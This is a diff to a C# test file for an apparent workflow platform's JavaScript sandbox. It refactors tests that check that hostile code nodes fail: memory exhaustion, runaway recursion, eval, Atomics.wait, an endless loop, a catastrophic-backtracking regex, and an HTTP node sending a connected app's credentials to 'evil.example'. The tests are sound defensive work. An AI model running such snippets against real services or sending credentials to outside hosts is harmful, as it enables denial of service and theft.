@@ -75,7 +75,6 @@ public abstract class ExecuteTests(PatchbayApp app)
         var client = app.ClientFor(key, account);
         foreach (var (code, message) in new[]
         {
-            ("while (true) {}", "ran"),                                                    // statements or time
             ("const a = []; while (true) { a.push('x'.repeat(1000000)); }", "MB"),        // memory
             ("function f(n) { return f(n + 1) + 1; } return f(0);", "recursed deeper"),   // recursion
             ("return globalThis.System === undefined && typeof require === 'undefined' ? eval('1') : 'host';", "String compilation has been disabled"), // no eval, no host
@@ -86,17 +85,9 @@ public abstract class ExecuteTests(PatchbayApp app)
             ("return 'x'.repeat(2 ** 27).length;", "MB"),
             ("return new ArrayBuffer(2 ** 29).byteLength;", "MB"),
             ("return Atomics.wait(new Int32Array(new SharedArrayBuffer(16)), 0, 0, 20000);", "Atomics.wait cannot be used"),
-            ("return /(a+)+$/.test('a'.repeat(40) + 'b');", "ran longer than 2000 ms"),
         })
         {
-            var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
-            var result = await ApiAssert.JsonAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct), 500);
-            Assert.True(result.GetProperty("errored").GetBoolean());
-            var detail = await ExecutionAsync(client, result.Str("execution_id"));
-            Assert.Equal("ERRORED", detail.Str("status"));
-            var node = detail.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "evil");
-            Assert.Equal("Errored", node.Str("node_status"));
-            Assert.Contains(message, node.Str("error"));
+            await AssertNodeFailsAsync(client, code, message);
         }
         // A connected app's credentials go only to its own API.
         var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
@@ -107,7 +98,50 @@ public abstract class ExecuteTests(PatchbayApp app)
         var (_, ok) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
         await ApiAssert.OkAsync(await client.SendAsync(Execute(ok, new { amount = 1 }, sync: true), Ct));
     }
+
+    // Runs the code in a node of its own workflow, synchronously: the execution and that node errored with the message.
+    internal static async Task AssertNodeFailsAsync(HttpClient client, string code, string message)
+    {
+        var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
+        var result = await ApiAssert.JsonAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct), 500);
+        Assert.True(result.GetProperty("errored").GetBoolean());
+        var detail = await ExecutionAsync(client, result.Str("execution_id"));
+        Assert.Equal("ERRORED", detail.Str("status"));
+        var node = detail.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "evil");
+        Assert.Equal("Errored", node.Str("node_status"));
+        Assert.Contains(message, node.Str("error"));
+    }
 }
 
-public sealed class SqliteExecuteTests(SqliteApp<FakeProviderOptions> app) : ExecuteTests(app), IClassFixture<SqliteApp<FakeProviderOptions>>;
-public sealed class PostgresExecuteTests(PostgresApp<FakeProviderOptions> app) : ExecuteTests(app), IClassFixture<PostgresApp<FakeProviderOptions>>;
+// Code runs get a minute here, so on a slow, busy machine each hostile snippet is stopped by the limit it is written to
+// hit (memory, recursion, nesting), not by the clock; the time limit itself is tested with its default (CodeTimeLimitTests).
+public sealed class GenerousCodeTimeOptions : IAppOptions
+{
+    public void Configure(AppSetup setup)
+    {
+        ArgumentNullException.ThrowIfNull(setup);
+        setup.FakeProvider = true;
+        setup.Settings["Patchbay:Workflows:CodeTimeout"] = "00:01:00";
+        setup.Settings["Patchbay:Workflows:SyncTimeout"] = "00:05:00";
+    }
+}
+
+public sealed class SqliteExecuteTests(SqliteApp<GenerousCodeTimeOptions> app) : ExecuteTests(app), IClassFixture<SqliteApp<GenerousCodeTimeOptions>>;
+public sealed class PostgresExecuteTests(PostgresApp<GenerousCodeTimeOptions> app) : ExecuteTests(app), IClassFixture<PostgresApp<GenerousCodeTimeOptions>>;
+
+// Code that only the clock stops, under the default 2 s limit: the node fails with the time limit's message, whatever
+// the machine's load (these snippets never end by themselves within their statement budget).
+public abstract class CodeTimeLimitTests(PatchbayApp app)
+{
+    [Fact]
+    public async Task EndlessCode_FailsOnlyItsNode_AtTheTimeLimit()
+    {
+        var (key, account) = await OrgAsync(app);
+        var client = app.ClientFor(key, account);
+        await ExecuteTests.AssertNodeFailsAsync(client, "while (true) {}", "ran"); // its statements or its time
+        await ExecuteTests.AssertNodeFailsAsync(client, "return /(a+)+$/.test('a'.repeat(40) + 'b');", "ran longer than 2000 ms");
+    }
+}
+
+public sealed class SqliteCodeTimeLimitTests(SqliteApp<FakeProviderOptions> app) : CodeTimeLimitTests(app), IClassFixture<SqliteApp<FakeProviderOptions>>;
+public sealed class PostgresCodeTimeLimitTests(PostgresApp<FakeProviderOptions> app) : CodeTimeLimitTests(app), IClassFixture<PostgresApp<FakeProviderOptions>>;
